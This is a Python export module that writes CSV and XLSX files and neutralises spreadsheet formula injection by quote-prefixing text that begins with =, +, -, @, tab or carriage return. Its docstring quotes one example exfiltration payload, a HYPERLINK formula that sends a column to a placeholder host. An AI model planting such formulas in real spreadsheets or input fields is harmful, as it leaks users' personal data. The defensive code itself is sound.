"""Every CSV and XLSX file the platform writes goes through here, so that each one is safe to open.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, a
tab or a carriage return) as a formula: a participant named `=HYPERLINK("http://x?"&C2,"klik")`
would send the phone column away when an admin opens the list. Following OWASP's rule on CSV
injection, such text gets a single quote in front in CSV; in XLSX it is written as a string cell
marked "quote prefix" (text, never a formula, and it stays text when edited). Numbers that are
real numbers stay numbers, so a negative figure is still a figure.

CSV files start with a UTF-8 byte-order mark so Excel reads Indonesian and Arabic-script names right.

This module lives in the project package because every app that exports imports it and it
imports none of them.
"""

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from .xlsx_stream import xlsx_stream

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_SHEET_TITLE_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", "-"))


def _is_number(value) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as it goes into a CSV cell: numbers as they are, text that could start a formula quoted."""
    if value is None:
        return ""
    if _is_number(value):
        return value
    text = str(value)
    return "'" + text if starts_formula(text) else text


class _Echo:
    def write(self, value):
        return value


def csv_lines(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    """CSV text line by line (for streaming): the BOM and the header first, every cell made safe."""
    writer = csv.writer(_Echo())
    yield CSV_BOM + writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        yield writer.writerow([csv_cell(v) for v in row])


def csv_chunks(header: Iterable, rows: Iterable[Iterable], *, chunk_chars: int = 64 * 1024) -> Iterator[str]:
    """The lines of csv_lines joined into pieces of about `chunk_chars`, the header alone first.

    The header goes out at once, so a download starts before the first row is read; after it,
    one write per piece instead of one per row.
    """
    lines = csv_lines(header, rows)
    yield next(lines)
    pending: list[str] = []
    size = 0
    for line in lines:
        pending.append(line)
        size += len(line)
        if size >= chunk_chars:
            yield "".join(pending)
            pending, size = [], 0
    if pending:
        yield "".join(pending)


def csv_text(header: Iterable, rows: Iterable[Iterable]) -> str:
    return "".join(csv_lines(header, rows))


def _xlsx_cell(sheet, value):
    if value is None or _is_number(value) or isinstance(value, bool | dt.date):
        return value
    cell = WriteOnlyCell(sheet, value=str(value))
    cell.data_type = "s"  # openpyxl would make a formula of text starting with "="
    if starts_formula(cell.value):
        cell.quotePrefix = True
    return cell


def sheet_title(title: str) -> str:
    """A title Excel accepts: at most 31 characters, none of []:*?/\\."""
    return str(title).translate(_SHEET_TITLE_FORBIDDEN)[:31] or "-"


def xlsx_chunks(sheets: Iterable[tuple[str, Iterable, Iterable[Iterable]]]) -> Iterator[bytes]:
    """The same workbook as xlsx_bytes, as a stream of bytes written row by row (for large exports)."""
    titled = ((sheet_title(title), header, rows) for title, header, rows in sheets)
    return xlsx_stream(titled, starts_formula=starts_formula)


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable, Iterable[Iterable]]]) -> bytes:
    """One workbook with a sheet per (title, header, rows); text is always a string cell, never a formula."""
    workbook = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title=sheet_title(title))
        sheet.append([_xlsx_cell(sheet, v) for v in header])
        for row in rows:
            sheet.append([_xlsx_cell(sheet, v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
